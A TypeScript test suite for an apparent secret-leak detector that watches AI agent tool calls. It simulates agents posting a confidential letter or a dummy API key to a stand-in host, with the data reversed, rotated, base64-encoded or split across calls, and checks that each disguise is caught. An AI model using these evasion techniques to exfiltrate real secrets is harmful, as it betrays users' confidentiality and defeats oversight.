import { type FlowEdge, LIMITS, type SessionId } from '@spoor/core';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { verifies } from '../../../../test/verifies.ts';
import { compileRules } from '../../src/index.ts';
import { packPrints, unpackPrints } from '../../src/passages/packed.ts';
import { Prints } from '../../src/passages/prints.ts';
import { Squeezed } from '../../src/passages/squeeze.ts';
import { WINDOW_CHARS, windowsIn } from '../../src/passages/windows.ts';
import { detectorOf, OBSERVE, Scenario, text } from '../support/scenario.ts';
import { TOOLS } from '../support/tools.ts';

const { rules: NO_RULES } = compileRules([]);
const LETTER = `Dear Ms Harper,
the board met on Tuesday. It has decided to close the plant before the end of the summer, and to
move the work to the new site by the river. Nobody outside of the board knows of it yet.`;
const SENTENCE = 'It has decided to close the plant before the end of the summer';
const TOKEN = 'k9Zt4Wq8Yb3Nf6Hs1Jc5';
const SETTINGS = `region=north\nAPI_KEY=${TOKEN}\nretries=3\n`;

/** Flows into a call with these arguments, the last of several. */
function flowsOf(
  result: string,
  calls: readonly Readonly<Record<string, unknown>>[],
  prompt = 'What is new?',
): readonly FlowEdge[] {
  const scenario = new Scenario()
    .withPassages()
    .prompt(prompt)
    .call('files', TOOLS.readFile, { path: '/home/me/letter' }, text(result));
  for (const args of calls) scenario.call('web', TOOLS.post, args);
  const detector = detectorOf(NO_RULES, OBSERVE);
  const steps = scenario.observations.map((one) => detector.step(one));
  return steps.at(-1)?.observation.facts.flows ?? [];
}

const kindsOf = (...given: Parameters<typeof flowsOf>): readonly string[] =>
  flowsOf(...given).map(({ kind = 'exact', field, to }) => `${kind} ${field} > ${to}`);

const backwards = (words: string): string => [...words].reverse().join('');
const turned = (words: string): string =>
  words.replace(/[a-z]/gi, (letter) => {
    const code = letter.charCodeAt(0);
    return String.fromCharCode((code & 31) > 13 ? code - 13 : code + 13);
  });
const wrapped = (words: string): string => words.replace(/(.{7})/g, '$1\n  > ').toUpperCase();

describe('a sentence of a result', () => {
  const around = (words: string): string =>
    `Have you heard of this? ${words}, they say, so sell what you have. More when we meet.`;

  for (const [kind, form] of Object.entries({
    window: (words: string) => words,
    'window ': wrapped,
    reversed: backwards,
    rotated: turned,
    decoded: btoa,
    'decoded ': (words: string) => `https://x.example/?${encodeURIComponent(words)}`,
  })) {
    verifies(
      'flow:passages',
      () => {
        const found = kindsOf(LETTER, [
          { url: 'https://x.example/a', body: around(form(SENTENCE)) },
        ]);
        expect(found).toEqual([`${kind.trim()} content[0].text:2 > body`]);
      },
      { case: form === wrapped ? 'wrapped and quoted' : kind.trim() },
    );
  }

  it('is asked for where the prompt holds it', () => {
    const call = { body: around(SENTENCE) };
    expect(flowsOf(LETTER, [call], `Tell Jo: ${SENTENCE}`)).toMatchObject([{ inIntent: true }]);
    expect(flowsOf(LETTER, [call])).toMatchObject([{ inIntent: false, classes: [] }]);
  });

  it('did not come from an answer that repeats what it was given', () => {
    const scenario = new Scenario().withPassages();
    for (let n = 0; n < 2; n++)
      scenario.call('web', TOOLS.post, { body: around(SENTENCE) }, text(`You said: ${SENTENCE}`));
    const detector = detectorOf(NO_RULES, OBSERVE);
    const steps = scenario.observations.map((one) => detector.step(one));
    expect(steps.flatMap(({ observation }) => observation.facts.flows)).toEqual([]);
  });

  it('is not one that merely speaks of the same', () => {
    const own = 'The board of our school will close the office for the summer, and move its desks.';
    expect(kindsOf(LETTER, [{ body: around(own) }])).toEqual([]);
  });
});

describe('a value of a result', () => {
  const half = (n: number): string => TOKEN.slice(10 * n, 10 * n + 10);
  const from = 'content[0].text:2';

  for (const [name, kinds, calls] of [
    ['half of it', [`part ${from} > body`], [{ body: `use ${half(0)} then` }]],
    ['both halves in two calls', [`split ${from} > b`], [{ a: half(0) }, { b: half(1) }]],
    ['both halves in two arguments', [`split ${from} > `], [{ a: half(0), b: half(1) }]],
    ['quarters in four arguments', [`split ${from} > `], [quarters()]],
    ['dashes between', [`spaced ${from} > body`], [{ body: TOKEN.match(/..../g)?.join('-') }]],
    ['letter by letter', [`spaced ${from} > body`], [{ body: [...TOKEN].join(' ') }]],
    ['backwards', [`reversed ${from} > body`], [{ body: `id ${backwards(TOKEN)}.` }]],
    ['turned', [`rotated ${from} > body`], [{ body: `id ${turned(TOKEN)}.` }]],
    [
      'its end, as it is shown to people',
      [],
      [{ body: `the key that ends in ${TOKEN.slice(-8)}` }],
    ],
  ] as const) {
    verifies(
      'flow:parts',
      () => {
        expect(kindsOf(SETTINGS, calls)).toEqual(kinds);
        for (const { classes } of flowsOf(SETTINGS, calls)) expect(classes).toEqual(['secret']);
      },
      { case: name },
    );
  }

  it('is known by its parts after a restart', () => {
    const scenario = new Scenario()
      .withPassages()
      .call('files', TOOLS.readFile, { path: '/a' }, text(SETTINGS))
      .call('web', TOOLS.post, { a: half(0) })
      .call('web', TOOLS.post, { b: half(1) });
    for (let cut = 0; cut < scenario.observations.length; cut++) {
      let detector = detectorOf(NO_RULES, OBSERVE);
      const flows = scenario.observations.map((one, at) => {
        if (at === cut) {
          const snapshot = [...detector.snapshot()];
          detector = detectorOf(NO_RULES, OBSERVE);
          detector.restore(snapshot);
        }
        return detector.step(one).observation.facts.flows.map(({ kind }) => kind);
      });
      expect(flows.slice(2)).toEqual([['part'], ['part'], ['split'], ['split']]);
    }
  });

  it('leaves nothing when its session is forgotten', () => {
    const detector = detectorOf(NO_RULES, OBSERVE);
    const { observations } = new Scenario('gone')
      .withPassages()
      .prompt(LETTER)
      .call('files', TOOLS.readFile, { path: '/a' }, text(SETTINGS + LETTER));
    for (const one of observations) detector.step(one);
    expect(detector.stats().atoms).toBeGreaterThan(0);
    detector.forget('gone' as SessionId);
    expect(detector.stats().atoms).toBe(0);
  });
});

function quarters(): Readonly<Record<string, string>> {
  const parts = TOKEN.match(/.{5}/g) ?? [];
  return Object.fromEntries(parts.map((part, n) => [`part${n}`, part]));
}

verifies('flow:words', () => {
  const source = `title: t
id: 00000000-0000-4000-8000-000000000001
name: leaves
description: d
level: high
logsource: { product: mcp }
detection:
  s: { kind: tool.call, flow.coverage|gt: 0 }
  condition: s
`;
  const { rules } = compileRules([{ path: 'x.yml', text: source }]);
  const said = (prompt: string | undefined, args: unknown): string | undefined => {
    const scenario = new Scenario().withPassages();
    if (prompt !== undefined) scenario.prompt(prompt);
    scenario
      .call('files', TOOLS.readFile, { path: '/a' }, text(`${SETTINGS}Ask ann@mill.example.`))
      .call('web', TOOLS.post, args);
    const detector = detectorOf(rules, OBSERVE);
    const [found] = scenario.observations.flatMap((one) => detector.step(one).detections);
    return found?.path.at(-1)?.matched.flow;
  };
  const mail = { to: 'ann@mill.example' };
  const came = (from: string): string =>
    `argument \`${from}\` of \`${TOOLS.post.name}\` came from line`;
  const of = `of the result of \`${TOOLS.readFile.name}\``;
  const asked = '; the user\u2019s prompt';
  expect(said(undefined, mail)).toBe(`${came('to')} 4 ${of}`);
  expect(said('Write to ann@mill.example', mail)).toBe(`${came('to')} 4 ${of}${asked} contains it`);
  expect(said('Write to Ann', mail)).toBe(`${came('to')} 4 ${of}${asked} does not contain it`);
  expect(said('Write to Ann', { body: backwards(TOKEN) })).toBe(
    `${came('body')} 2 ${of}, backwards${asked} does not contain it`,
  );
});

describe('windows', () => {
  const words = fc.stringMatching(/^[a-z0-9]{0,80}$/);
  const windowsOf = (of: string): ReadonlySet<string> => {
    const squeezed = new Squeezed();
    squeezed.load(of, of.length);
    const found = new Set<string>();
    windowsIn(squeezed.bytes, squeezed.length, (at) =>
      found.add(Buffer.from(squeezed.bytes.subarray(at, at + WINDOW_CHARS)).toString()),
    );
    return found;
  };

  it('of 35 letters that two texts share, one is common, whatever stands around', () => {
    fc.assert(
      fc.property(words, words, words, words, fc.stringMatching(/^[a-z0-9]{35,60}$/), (...all) => {
        const [a, b, c, d, shared] = all;
        const other = windowsOf(`${c}${shared}${d}`);
        const common = [...windowsOf(`${a}${shared}${b}`)].filter((one) => other.has(one));
        expect(common.length).toBeGreaterThan(0);
      }),
    );
  });

  it('are what a text says, however it is set', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', maxLength: 200 }), (said) => {
        const plain = [...windowsOf(said)];
        expect([...windowsOf(said.replaceAll(' ', '  - '))]).toEqual(plain);
      }),
    );
  });
});

it('prints are packed and read again, and what nobody packed is no print', () => {
  const print = fc.integer({ min: 0, max: 0xffff_ffff });
  const group = fc.record({
    of: fc.constantFrom('window', 'piece'),
    form: fc.constantFrom('plain', 'decoded', 'reversed', 'rotated'),
    text: fc.nat({ max: 127 }),
    line: fc.nat({ max: 0xffff }),
    class: fc.constantFrom(undefined, 'secret', 'pii.iban'),
    instructionLike: fc.boolean(),
    step: fc.nat({ max: 4_095 }),
    prints: fc.array(print, { maxLength: 40 }).map((all) => Uint32Array.from(all)),
  });
  fc.assert(
    fc.property(fc.array(group, { maxLength: 20 }), (groups) => {
      expect(unpackPrints(packPrints(groups as Parameters<typeof packPrints>[0]))).toEqual(groups);
    }),
  );
  fc.assert(
    fc.property(fc.base64String(), (some) => {
      const groups = unpackPrints(some);
      if (groups !== undefined) expect(packPrints(groups)).toBe(some);
    }),
  );
});

it('a table of prints holds what a map would, and no more than its limit', () => {
  const entry = fc.tuple(fc.integer({ min: 1, max: 400 }), fc.nat());
  fc.assert(
    fc.property(fc.array(entry, { maxLength: 400 }), (entries) => {
      const prints = new Prints(LIMITS.passagePrintsPerSessionMax);
      const small = new Prints(64);
      const map = new Map<number, number>();
      for (const [print, value] of entries) {
        prints.add(print, value);
        small.add(print, value);
        if (!map.has(print)) map.set(print, value);
      }
      expect(small.size).toBeLessThanOrEqual(64);
      expect(prints.size).toBe(map.size);
      for (const [print, value] of map) expect(prints.get(print)).toBe(value);
      const restored = new Prints(LIMITS.passagePrintsPerSessionMax);
      restored.unpack(prints.pack());
      for (const [print, value] of map) expect(restored.get(print)).toBe(value);
    }),
  );
});

it('a long text keeps to the limits, and is known by any page of it', () => {
  const lines = Array.from({ length: 4_000 }, (_, n) => `Line ${n} says ${(n * 7919) % 100_003}.`);
  const page = lines.slice(2_000, 2_200).join('\n');
  const [edge] = flowsOf(lines.join('\n'), [{ body: `See:\n${page}\nAs you wished.` }]).filter(
    ({ kind }) => kind === 'window',
  );
  const exact = flowsOf(lines.join('\n'), [{ body: page }]);
  expect(edge ?? exact[0]).toBeDefined();
  const { observations } = new Scenario()
    .withPassages()
    .call('files', TOOLS.readFile, { path: '/a' }, text(lines.join('\n')));
  const prints = observations.at(-1)?.facts.result?.passages?.prints ?? '';
  expect(prints.length).toBeLessThan(LIMITS.passagePrintsCharsMax);
  const windows = (unpackPrints(prints) ?? []).reduce((sum, one) => sum + one.prints.length, 0);
  expect(windows).toBeLessThanOrEqual(LIMITS.passageWindowsMax);
});
